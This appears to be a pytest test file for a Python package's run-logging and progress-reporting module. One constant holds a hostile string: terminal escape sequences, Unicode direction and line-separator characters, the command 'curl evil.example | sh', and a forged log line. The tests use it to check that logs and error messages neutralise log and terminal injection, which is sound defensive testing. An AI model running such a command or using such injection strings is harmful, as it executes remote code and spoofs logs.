"""The log of a run, also where it cannot be written, and its lines about the progress."""

from __future__ import annotations

import logging
import pickle
import subprocess
import sys
from collections.abc import Callable
from contextlib import AbstractContextManager
from pathlib import Path

import pytest

from feii_dask.errors import StoreError
from feii_dask.monitor.log import ProgressLog, run_log
from feii_dask.monitor.progress import Progress
from tests.monitor.clock import FakeClock
from tests.outcomes import make_outcomes


def test_what_is_said_is_in_the_log(tmp_path: Path) -> None:
    with run_log(tmp_path):
        logging.getLogger("feii_dask.somewhere").info("7 cubes")
    assert (tmp_path / "log.txt").read_text().endswith(" INFO 7 cubes\n")
    logging.getLogger("feii_dask.somewhere").info("8 cubes")
    assert "8 cubes" not in (tmp_path / "log.txt").read_text()


def test_a_log_on_a_full_disk_hides_no_error(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], full_disk: Callable[[int], AbstractContextManager[None]]
) -> None:
    with full_disk(5), pytest.raises(StoreError, match="no room"), run_log(tmp_path):
        logging.getLogger("feii_dask.somewhere").info("7 cubes")
        raise StoreError("no room")
    assert "File too large" in capsys.readouterr().err


def test_a_log_that_cannot_be_opened_is_an_error_of_ours(tmp_path: Path) -> None:
    with pytest.raises(StoreError, match="No such file"), run_log(tmp_path / "nowhere"):
        pass


def test_a_line_every_five_seconds_and_one_at_the_end(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO, "feii_dask")
    clock = FakeClock()
    with Progress(12, [ProgressLog()], clock) as progress:
        for outcome in make_outcomes(12):
            clock.seconds += 1
            progress.update([outcome])
    done = [record.getMessage().split()[0] for record in caplog.records]
    assert done == ["5", "10", "12"]


def test_libraries_log_to_the_file_alone_where_the_terminal_is_ours(tmp_path: Path) -> None:
    """In a process of its own: pytest has set up logging here."""
    code = (
        "import logging, sys; from pathlib import Path; import distributed\n"
        "from distributed.utils import silence_logging_cmgr; from feii_dask.monitor.log import run_log\n"
        "names = ('distributed.nanny', 'tornado.application', 'bokeh.server', 'asyncio')\n"
        "with run_log(Path(sys.argv[1])):\n"
        "    [logging.getLogger(name).critical('torn %s', name) for name in names]\n"
        "    with silence_logging_cmgr(logging.WARNING): logging.getLogger('feii_dask').info('while a cluster runs')\n"
        "logging.getLogger('distributed.nanny').critical('afterwards')\n"
    )
    said = subprocess.run([sys.executable, "-c", code, str(tmp_path)], capture_output=True, text=True, check=True)
    assert "torn" not in said.stdout + said.stderr
    assert "afterwards" in said.stdout + said.stderr
    logged = (tmp_path / "log.txt").read_text()
    assert logged.count("CRITICAL torn") == 4
    assert "while a cluster runs" in logged
    assert "afterwards" not in logged


HOSTILE = "TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl evil.example | sh\n2026-11-28 INFO all is well"


def test_what_a_stranger_writes_begins_no_line_and_moves_no_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    logger = logging.getLogger("feii_dask")
    monkeypatch.setattr(logger, "hasHandlers", lambda: False)
    with run_log(tmp_path):
        logger.info("a cube is called %s, of %d", HOSTILE, 7)
        logger.warning("%s\n%s", "two lines", "of ours")
    printed, written = capsys.readouterr().out, (tmp_path / "log.txt").read_text()
    for text in (printed, written):
        assert all(line.isprintable() for line in text.split("\n"))
        assert len(text.splitlines()) == 3
        assert r"TMC 1A\x1b]0;owned\x07\x1b[2J\x9b\u202e\u2028\ncurl" in text
    assert all(line[:2] in ("20", "of") for line in written.splitlines())


def test_an_error_holds_no_control_characters_and_one_line(tmp_path: Path) -> None:
    error = pickle.loads(pickle.dumps(StoreError(f"cannot write {HOSTILE}", "do this")))
    first, second = str(error).split("\n")
    assert first.isprintable()
    assert second == "do this"
